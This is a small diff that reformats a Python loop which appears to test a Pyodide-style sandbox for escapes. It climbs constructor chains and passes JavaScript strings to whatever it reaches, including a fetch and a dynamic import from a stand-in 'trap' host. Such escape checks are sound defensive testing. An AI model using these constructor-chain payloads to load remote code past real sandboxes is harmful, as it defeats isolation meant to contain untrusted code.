@@ -38,10 +38,18 @@ for name, value in kinds.items():
     maker = value
     for _ in range(4):
         maker = getattr(maker, "constructor", None)
-        for ask in ("fetch('http://trap/constructor')", "return globalThis", "import('http://trap/x.js')"):
+        for ask in (
+            "fetch('http://trap/constructor')",
+            "return globalThis",
+            "import('http://trap/x.js')",
+        ):
             try:
                 made = maker(ask)
-                if callable(made) and type(made).__name__ == "JsProxy" and made.toString() == ask:
+                if (
+                    callable(made)
+                    and type(made).__name__ == "JsProxy"
+                    and made.toString() == ask
+                ):
                     continue
                 if callable(made) and ask in made.toString():
                     print("REACHED a function by", name)
